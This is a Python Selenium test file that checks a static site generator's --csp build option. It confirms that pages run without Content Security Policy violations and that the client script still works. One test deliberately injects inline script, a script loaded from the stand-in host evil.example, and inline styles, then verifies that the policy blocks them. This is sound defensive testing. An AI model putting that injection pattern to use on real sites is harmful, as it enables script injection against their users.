"""Pages built with --csp carry a strict Content Security Policy, and everything still works
under it in Chromium: no violation on any page, the client script runs (events, unread state,
dismiss, the broken-image placeholder), served over HTTP and opened from disk alike."""
import json
import shutil
import subprocess

import pytest
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import WebDriverWait

from conftest import BROKEN_IMAGE_CARD, NOW, REPO, StaticServer, copy_example_site, make_driver

WAIT = 10
POLICY = ("default-src 'self'; img-src 'self' https: http: data:; style-src 'self'; script-src 'self'; "
          "object-src 'none'; base-uri 'self'; form-action 'self'")

# Records every violation from the start of each page, before the page's own <meta> is parsed.
VIOLATION_RECORDER = """
window.__cspViolations = [];
document.addEventListener("securitypolicyviolation", function (e) {
  window.__cspViolations.push({directive: e.violatedDirective, blocked: e.blockedURI, sample: e.sample});
});
"""


def build(cardfeed_bin, site, out):
    result = subprocess.run([str(cardfeed_bin), "build", str(site), "-o", str(out), "--now", NOW, "--csp", "-q"],
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    return out


@pytest.fixture(scope="module")
def csp_sites(cardfeed_bin, tmp_path_factory):
    root = tmp_path_factory.mktemp("csp")
    site = copy_example_site(root / "site")
    (site / "cards" / "zz-broken-image.json").write_text(json.dumps([BROKEN_IMAGE_CARD]))
    customised = root / "customised"
    shutil.copytree(REPO / "examples" / "customised", customised, ignore=shutil.ignore_patterns("public"))
    sites = {"example": build(cardfeed_bin, site, root / "example-out"), "customised": build(cardfeed_bin, customised, root / "customised-out")}
    servers = {name: StaticServer(out) for name, out in sites.items()}
    try:
        yield {name: (out, servers[name].url) for name, out in sites.items()}
    finally:
        for server in servers.values():
            server.close()


@pytest.fixture()
def csp_driver():
    driver = make_driver()
    driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": VIOLATION_RECORDER})
    try:
        yield driver
    finally:
        driver.quit()


def violations(driver):
    return driver.execute_script("return window.__cspViolations")


def settle(driver):
    """Waits until the client script has run on the page and the cards in view are seen."""
    WebDriverWait(driver, WAIT).until(lambda d: d.execute_script(
        "return (window.__cardfeedEvents || []).some(e => e.name === 'feeddisplayed')"))
    driver.execute_script("window.scrollTo(0, document.body.scrollHeight)")
    driver.execute_script("return new Promise(r => setTimeout(r, 150))")


def policy_of(driver):
    return driver.execute_script(
        "var m = document.querySelector('meta[http-equiv=\"Content-Security-Policy\"]'); return m && m.content")


@pytest.mark.parametrize("name", ["example", "customised"])
def test_every_page_runs_under_the_policy_without_a_violation(csp_sites, csp_driver, name):
    out, url = csp_sites[name]
    pages = sorted(str(p.relative_to(out)) for p in out.rglob("*.html"))
    assert len(pages) >= 6
    for page in pages:
        csp_driver.get(url + page)
        assert policy_of(csp_driver) == POLICY, page
        settle(csp_driver)
        assert violations(csp_driver) == [], page
        # The stylesheets applied: the theme's and the cards' own CSS files are allowed.
        assert csp_driver.execute_script("return document.styleSheets.length") >= 1
    severe = [e for e in csp_driver.get_log("browser") if "Content Security Policy" in e["message"]]
    assert severe == []


def test_the_client_script_works_under_the_policy(csp_sites, csp_driver):
    out, url = csp_sites["example"]
    csp_driver.get(url)
    settle(csp_driver)
    assert csp_driver.execute_script("return document.querySelectorAll('[data-viewed]').length") > 0, "cards seen"
    # Dismissing a card hides it through the CSSOM, which a policy allows.
    button = csp_driver.find_element(By.CSS_SELECTOR, "[data-dismissible] button.card__dismiss")
    card = button.find_element(By.XPATH, "ancestor::*[@data-card-id][1]")
    csp_driver.execute_script("arguments[0].scrollIntoView({block: 'center'})", button)
    button.click()
    assert not card.is_displayed()
    # A broken image is replaced by the placeholder.
    csp_driver.get(url + "news/index.html")
    selector = f"[data-card-id='{BROKEN_IMAGE_CARD['id']}'] img.card__image"
    csp_driver.execute_script("document.querySelector(arguments[0]).scrollIntoView({block: 'center'})", selector)
    WebDriverWait(csp_driver, WAIT).until(lambda d: d.find_element(By.CSS_SELECTOR, selector).get_attribute("src").endswith("/assets/images/appboy_cc_noimage_lrg.png"))
    assert violations(csp_driver) == []


def test_the_policy_is_enforced(csp_sites, csp_driver):
    """What the policy is for: script or style a card smuggled in would not run."""
    out, url = csp_sites["example"]
    csp_driver.get(url)
    settle(csp_driver)
    csp_driver.execute_script("""
      var s = document.createElement('script'); s.textContent = 'window.__inlineRan = true'; document.head.appendChild(s);
      var e = document.createElement('script'); e.src = 'https://evil.example/x.js'; document.head.appendChild(e);
      document.body.setAttribute('style', 'display: none');
      var st = document.createElement('style'); st.textContent = 'body { display: none }'; document.head.appendChild(st);""")
    WebDriverWait(csp_driver, WAIT).until(lambda d: len(violations(d)) >= 4)
    directives = {v["directive"] for v in violations(csp_driver)}
    assert {"script-src-elem", "style-src-attr", "style-src-elem"} <= directives, directives
    assert csp_driver.execute_script("return window.__inlineRan") is None
    assert csp_driver.execute_script("return getComputedStyle(document.body).display") != "none"


def test_opened_from_disk_the_pages_still_work(csp_sites, csp_driver):
    out, _ = csp_sites["example"]
    csp_driver.get((out / "news" / "index.html").as_uri())
    settle(csp_driver)
    assert violations(csp_driver) == []
    assert csp_driver.execute_script("return document.styleSheets.length") >= 1


def test_serve_with_the_policy_keeps_live_reload_working(serve, csp_driver):
    server, site = serve(None, "--csp")
    csp_driver.get(server.url)
    assert policy_of(csp_driver) == POLICY
    # The live-reload script is an external file of the server's, and its stylesheet too.
    WebDriverWait(csp_driver, 20).until(lambda d: d.execute_script("return !!document.querySelector('link[href=\"/_cardfeed/live.css\"]')"))
    settle(csp_driver)
    assert violations(csp_driver) == []
